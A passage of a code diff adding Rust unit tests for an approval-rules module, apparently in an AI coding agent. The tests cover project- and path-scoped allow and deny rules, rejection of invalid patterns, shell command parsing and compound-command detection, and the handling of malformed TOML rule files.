+            Some(ReviewDecision::Approved)
+        );
+        // Unscoped allow rules stay inside the project
+        assert_eq!(decide(&rules, &["make"], "/work/other"), None);
+        assert_eq!(decide(&rules, &["make"], "/work/application"), None);
+
+        let scoped = [rule(RuleAction::Allow, prefix(&["make"]), Some("/tmp/*"))];
+        assert_eq!(
+            decide(&scoped, &["make"], "/tmp/build"),
+            Some(ReviewDecision::Approved)
+        );
+        assert_eq!(decide(&scoped, &["make"], PROJECT), None);
+
+        // Unscoped deny rules apply everywhere
+        let deny = [rule(RuleAction::Deny, prefix(&["shutdown"]), None)];
+        assert_eq!(
+            decide(&deny, &["shutdown"], "/"),
+            Some(ReviewDecision::Denied)
+        );
+    }
+
+    #[test]
+    fn sessions_without_a_project_are_never_auto_allowed() {
+        let rules = [
+            rule(RuleAction::Allow, prefix(&["make"]), None),
+            rule(RuleAction::Allow, prefix(&["ls"]), Some("/*")),
+            rule(RuleAction::Deny, prefix(&["shutdown"]), None),
+        ];
+        assert_eq!(decide_in("", &rules, &["make"], "/etc"), None);
+        assert_eq!(decide_in("", &rules, &["ls"], "/etc"), None);
+        assert_eq!(
+            decide_in("", &rules, &["shutdown"], "/etc"),
+            Some(ReviewDecision::Denied)
+        );
+    }
+
+    #[test]
+    fn invalid_patterns_are_rejected() {
+        let invalid = [
+            rule(RuleAction::Allow, prefix(&[]), None),
+            rule(
+                RuleAction::Allow,
+                CommandPattern::Glob("[".to_string()),
+                None,
+            ),
+            rule(
+                RuleAction::Allow,
+                CommandPattern::Regex("(".to_string()),
+                None,
+            ),
+            rule(RuleAction::Allow, prefix(&["ls"]), Some("[")),
+        ];
+        for rule in invalid {
+            assert!(CompiledRule::new(rule).is_err());
+        }
+    }
+
+    #[test]
+    fn parse_keeps_quoted_words_together() {
+        let command = CommandLine::parse(&argv(&["bash", "-lc", "git commit -m 'fix the build'"]));
+        assert!(!command.compound);
+        assert_eq!(
+            command.segments,
+            vec![argv(&["git", "commit", "-m", "fix the build"])]
+        );
+        assert_eq!(command.text, "git commit -m 'fix the build'");
+
+        let command = CommandLine::parse(&argv(&["/bin/sh", "-c", "echo \"a b\" c"]));
+        assert_eq!(command.segments, vec![argv(&["echo", "a b", "c"])]);
+
+        // A separator inside quotes still makes the script compound
+        let command = CommandLine::parse(&argv(&["bash", "-lc", "echo 'a;b'"]));
+        assert!(command.compound);
+
+        // Plain argv is taken as is, without shell parsing
+        let command = CommandLine::parse(&argv(&["echo", "a;b"]));
+        assert!(!command.compound);
+        assert_eq!(command.segments, vec![argv(&["echo", "a;b"])]);
+    }
+
+    #[test]
+    fn malformed_rules_file_asks_the_user() {
+        let dir = std::env::temp_dir().join(format!("codexia-rules-{}", uuid::Uuid::new_v4()));
+        fs::create_dir_all(&dir).unwrap();
+        let path = dir.join("approval_rules.toml");
+
+        fs::write(
+            &path,
+            "[projects.\"/work/app\"]\nrules = [{ action = \"allow\", command = { kind = \"prefix\", pattern = [\"ls\"] } }]\n",
+        )
+        .unwrap();
+        assert_eq!(
+            cached_project_rules(&path, PROJECT).map(|r| r.len()),
+            Some(1)
+        );
+
+        fs::write(&path, "[projects.\"/work/app\"\nrules = oops").unwrap();
+        assert!(cached_project_rules(&path, PROJECT).is_none());
+
+        // One bad pattern drops the project's rules instead of just that rule
+        fs::write(
+            &path,
+            "[projects.\"/work/app\"]\nrules = [\n  { action = \"allow\", command = { kind = \"prefix\", pattern = [\"ls\"] } },\n  { action = \"deny\", command = { kind = \"regex\", pattern = \"(\" } },\n]\n",
+        )
+        .unwrap();
+        assert!(cached_project_rules(&path, PROJECT).is_none());
+
+        fs::remove_dir_all(&dir).unwrap();
+    }
+}